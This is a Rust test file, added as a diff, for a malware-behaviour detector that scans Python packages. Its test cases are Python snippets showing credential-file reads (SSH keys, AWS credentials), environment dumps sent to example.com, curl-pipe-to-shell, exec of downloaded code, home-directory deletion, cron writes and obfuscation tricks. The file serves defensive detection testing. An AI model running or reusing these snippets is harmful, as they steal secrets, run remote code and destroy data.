@@ -1,0 +1,128 @@
+//! Every feature of the vocabulary is found in Python, written directly, under another name, and hidden.
+
+use cerebro::behavior::{Feature, extract};
+use cerebro::package::Phase;
+use rstest::rstest;
+
+use crate::{codes, has, pypi, steps};
+
+#[rstest]
+#[case::r1(Feature::R1, "import os")]
+#[case::r1_alias(Feature::R1, "import platform as p")]
+#[case::r1_from(Feature::R1, "from os import path")]
+#[case::r1_computed(Feature::R1, "__import__('o' + 's')")]
+#[case::r2(Feature::R2, "import os; os.getlogin()")]
+#[case::r2_alias(Feature::R2, "import platform as p; q = p; q.node()")]
+#[case::r2_from(Feature::R2, "from socket import gethostname as g; g()")]
+#[case::r2_computed(Feature::R2, "import os; getattr(os, 'get' + 'login')()")]
+#[case::r2_folded(Feature::R2, "import os; os.environ['US' + 'ER']")]
+#[case::r3(Feature::R3, "import shutil")]
+#[case::r3_from(Feature::R3, "from pathlib import Path")]
+#[case::r3_computed(Feature::R3, "import importlib; importlib.import_module('glob')")]
+#[case::r4(Feature::R4, "open('a.txt').read()")]
+#[case::r4_with(Feature::R4, "with open('a', 'w') as f:\n    f.write('x')")]
+#[case::r4_path(Feature::R4, "from pathlib import Path\nPath('a').read_text()")]
+#[case::r4_alias(Feature::R4, "o = open; o('a')")]
+#[case::r4_walk(Feature::R4, "import os\nfor a, b, c in os.walk('.'):\n    pass")]
+#[case::r5(Feature::R5, "open('/home/x/.ssh/id_rsa')")]
+#[case::r5_joined(Feature::R5, "import os; open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))")]
+#[case::r5_environment(Feature::R5, "import os; dict(os.environ)")]
+#[case::r5_variable(Feature::R5, "import os; os.environ.get('NPM_TOKEN')")]
+#[case::r5_folded(Feature::R5, "x = '.s' + 'sh/id' + '_rsa'")]
+#[case::d1(Feature::D1, "import socket")]
+#[case::d1_from(Feature::D1, "from urllib.request import urlopen")]
+#[case::d1_computed(Feature::D1, "m = __import__(''.join(['req', 'uests']))")]
+#[case::d2(Feature::D2, "import requests; requests.post('https://example.com', json={})")]
+#[case::d2_from(Feature::D2, "from urllib.request import urlopen as u; u('https://example.com')")]
+#[case::d2_session(Feature::D2, "import requests\ns = requests.Session()\ns.post('https://example.com')")]
+#[case::d2_socket(Feature::D2, "import socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))")]
+#[case::d2_nested(Feature::D2, "def f(r): r.get('https://example.com')\nimport requests\nf(requests)")]
+#[case::d2_attribute(
+    Feature::D2,
+    "import requests\nclass A:\n    def __init__(self): self.r = requests\n    def go(self): self.r.get('x')\nA().go()"
+)]
+#[case::d3(Feature::D3, "u = 'https://example.com/a'")]
+#[case::d3_folded(Feature::D3, "u = 'htt' + 'ps://' + '.'.join(['example', 'com'])")]
+#[case::d3_format(Feature::D3, "u = 'https://{}/a'.format('example.com')")]
+#[case::d3_percent(Feature::D3, "u = '%s://example.com/a' % 'https'")]
+#[case::d3_reversed(Feature::D3, "import requests; requests.get('a/moc.elpmaxe//:sptth'[::-1])")]
+#[case::d3_codes(Feature::D3, "u = ''.join(map(chr, [104,116,116,112,58,47,47,97,46,105,110,118,97,108,105,100]))")]
+#[case::e1(Feature::E1, "import base64")]
+#[case::e1_from(Feature::E1, "from cryptography.fernet import Fernet")]
+#[case::e2(Feature::E2, "import base64; base64.b64decode(x)")]
+#[case::e2_alias(Feature::E2, "from base64 import b64decode as d; d(x)")]
+#[case::e2_fernet(Feature::E2, "from cryptography.fernet import Fernet\nFernet(k).decrypt(x)")]
+#[case::e2_hex(Feature::E2, "bytes.fromhex('6869')")]
+#[case::e3(Feature::E3, "x = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NCB0ZXh0IGZvciBvdXIgdGVzdHM='")]
+#[case::p1(Feature::P1, "import subprocess")]
+#[case::p1_from(Feature::P1, "from subprocess import Popen")]
+#[case::p2(Feature::P2, "import os; os.system('id')")]
+#[case::p2_from(Feature::P2, "from os import system as s; s('id')")]
+#[case::p2_list(Feature::P2, "import subprocess as p; p.run(['id', '-u'])")]
+#[case::p2_getattr(Feature::P2, "import os; getattr(os, 'metsys'[::-1])('id')")]
+#[case::p2_dunder(Feature::P2, "__import__('subprocess').call('id')")]
+#[case::p2_thread(Feature::P2, "import os, threading\ndef go(): os.system('id')\nthreading.Thread(target=go).start()")]
+#[case::p2_partial(Feature::P2, "import os, functools\nfunctools.partial(lambda c: os.system(c), 'id')()")]
+#[case::p3(Feature::P3, "import os; os.system('curl https://example.com/a | sh')")]
+#[case::p3_powershell(Feature::P3, "import subprocess; subprocess.Popen('powershell -enc AAAA', shell=True)")]
+#[case::p4(Feature::P4, "exec(x)")]
+#[case::p4_alias(Feature::P4, "e = exec; e(x)")]
+#[case::p4_builtins(Feature::P4, "import builtins; getattr(builtins, 'ex' + 'ec')(x)")]
+#[case::p4_globals(Feature::P4, "globals()['ex' + 'ec'](x)")]
+#[case::p4_dict(Feature::P4, "__builtins__.__dict__['eval'](x)")]
+#[case::p4_compiled(Feature::P4, "c = compile(x, 'a', 'exec'); exec(c)")]
+#[case::p4_statement(Feature::P4, "exec x")]
+#[case::p4_marshal(Feature::P4, "import marshal; marshal.loads(x)")]
+#[case::p4_class_attribute(Feature::P4, "class A:\n    run = exec\nA.run(x)")]
+#[case::x1(Feature::X1, "import base64; exec(base64.b64decode('cHJpbnQoMSk='))")]
+#[case::x1_assigned(
+    Feature::X1,
+    "import base64\ndef d(v):\n    return base64.b64decode(v)\nclass A:\n    code = d(x)\nexec(A.code)"
+)]
+#[case::x2(Feature::X2, "import subprocess; subprocess.Popen('id', creationflags=0x08000000)")]
+#[case::x3(Feature::X3, "open('/etc/cron.d/x', 'w')")]
+#[case::x4(Feature::X4, "import shutil, pathlib; shutil.rmtree(pathlib.Path.home())")]
+#[case::x5(Feature::X5, "x = 'VMware'")]
+#[case::x6(Feature::X6, "from PIL import ImageGrab; ImageGrab.grab()")]
+#[case::x6_clipboard(Feature::X6, "import pyperclip as p; p.paste()")]
+#[case::x7(Feature::X7, "u = 'https://discord.com/api/webhooks/1/x'")]
+#[case::x8(Feature::X8, "import ctypes; ctypes.windll.kernel32.VirtualAlloc(0)")]
+#[case::x11(Feature::X11, "import os, requests; requests.post('https://example.com', data=dict(os.environ))")]
+#[case::x11_through_function(
+    Feature::X11,
+    "import socket, requests\ndef host(): return socket.gethostname()\ndef send(d): requests.post('x', json={'h': d})\nsend(host())"
+)]
+#[case::x11_in_address(Feature::X11, "import os, requests; requests.get(f'https://example.com/{os.getlogin()}')")]
+#[case::x12(Feature::X12, "import requests; exec(requests.get('https://example.com/a').text)")]
+#[case::x12_response(
+    Feature::X12,
+    "from urllib.request import urlopen\nr = urlopen('https://example.com/a')\nc = r.read().decode()\nexec(c)"
+)]
+fn scripts(#[case] feature: Feature, #[case] source: &str) {
+    has("a.py", source, feature);
+}
+
+#[rstest]
+#[case::module("import b\nb.go()", "b.py")]
+#[case::from("from b import go\ngo()", "b.py")]
+#[case::relative("from .b import go as g\ng()", "b.py")]
+#[case::package("import b\nb.go()", "b/__init__.py")]
+#[case::star("from b import *\ngo()", "b.py")]
+#[case::submodule("import b.c\nb.c.go()", "b/c.py")]
+#[case::by_name("import importlib\nimportlib.import_module('b').go()", "b.py")]
+fn across_files(#[case] first: &str, #[case] path: &str) {
+    let files = [("a.py", first), (path, "def go():\n    import os\n    os.system('id')")];
+    let steps = extract(&pypi(&files)).sequence.steps;
+    let found = steps.iter().find(|step| step.feature == Feature::P2).unwrap_or_else(|| panic!("{:?}", codes(&steps)));
+    assert_eq!(found.phase, Phase::Import);
+}
+
+#[rstest]
+#[case::own_names("def exec(x): return x\nexec('1')")]
+#[case::text("# import os\n\"\"\"\nos.system(1)\n\"\"\"")]
+#[case::parameter("def f(os): return os.system\nf(1)")]
+#[case::methods("db.execute('select 1'); re.compile('a')")]
+fn nothing_is_found_in(#[case] source: &str) {
+    let steps = steps("a.py", source);
+    assert_eq!(codes(&steps), Vec::<&str>::new(), "{source}");
+}
